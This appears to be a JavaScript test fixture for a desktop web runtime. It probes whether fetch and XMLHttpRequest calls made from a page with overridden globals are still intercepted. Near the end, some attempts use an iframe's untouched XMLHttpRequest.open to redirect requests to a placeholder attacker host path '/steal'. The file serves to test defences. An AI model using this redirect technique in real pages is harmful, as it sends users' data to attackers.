// Calls made in a page whose functions are all replaced (`overrides.js`).
const { seen, real, replaced } = globalThis.hostile
const url = (tag) => 'ipc://probe.act?tag=' + tag
const bytes = (tag) => 'ipc://probe.bytes?tag=' + tag
const statuses = {}

const attempts = {
  plain: () => fetch(url('plain')),
  init: () => fetch(url('init'), { method: 'POST', headers: { 'X-A': 'b' } }),
  'headers-object': () => fetch(url('headers-object'), { headers: new Headers({ 'X-A': 'b' }) }),
  'headers-list': () => fetch(url('headers-list'), { headers: [['X-A', 'b']] }),
  request: () => fetch(new Request(url('request'))),
  'request-init': () => fetch(new Request(url('request-init')), { headers: { 'X-A': 'b' } }),
  url: () => fetch(new URL(url('url'))),
  blob: () => fetch(bytes('blob'), { method: 'POST', body: new Blob(['x']) }),
  form: () => {
    const form = new FormData()
    form.append('a', new Blob(['x']), 'n')
    return fetch(bytes('form'), { method: 'POST', body: form })
  },
  getters: () => fetch(url('getters'), { get headers () { return { get 'X-A' () { return new Error().stack.replaceAll('\n', ' ') } } } }),
  subclass: () => fetch(url('subclass'), { headers: new (class extends Headers { forEach (...a) { return super.forEach(...a) } })() }),
  runtime: () => globalThis[Symbol.for('socket.runtime')].fetch(url('runtime'))
}
for (const tag in attempts) {
  try {
    statuses[tag] = (await attempts[tag]()).status
  } catch (error) {
    statuses[tag] = real.String(error)
  }
}
const send = (tag, prepare) => new real.Promise((resolve) => {
  const xhr = new XMLHttpRequest()
  xhr.onloadend = () => { statuses[tag] = xhr.status; resolve() }
  prepare(xhr, (tag.startsWith('xhr') ? bytes : url)(tag))
})
await send('xhr', (xhr, url) => { xhr.open('POST', url); xhr.send('x') })
await send('xhr-blob', (xhr, url) => { xhr.open('POST', url); xhr.send(new Blob(['x'])) })

// The engine's own functions, out of a frame, let an open request go elsewhere before it is sent.
const evil = document.documentElement.dataset.evil
const frame = document.createElement('iframe')
document.body.append(frame)
const bare = frame.contentWindow.XMLHttpRequest.prototype
await send('reopened', (xhr, url) => { xhr.open('POST', url); bare.open.call(xhr, 'POST', evil + '/steal'); xhr.send('x') })
await send('reopened-early', (xhr, url) => {
  let once = true
  xhr.onreadystatechange = () => {
    if (!once) return
    once = false
    bare.open.call(xhr, 'POST', evil + '/steal')
  }
  xhr.open('POST', url)
  try { xhr.send('x') } catch { xhr.onloadend() }
})
await send('reopened-aborted', (xhr, url) => {
  let count = 0
  xhr.onreadystatechange = () => {
    if (count++ > 3) return
    xhr.abort()
    bare.open.call(xhr, 'POST', evil + '/steal')
  }
  try { xhr.open('POST', url) } catch {}
  try { xhr.send('x') } catch { xhr.onloadend() }
})

await new real.Promise((resolve) => real.setTimeout(resolve, 100))
real.log('REPORT ' + real.stringify({ seen, replaced, statuses }))
real.log('DONE')
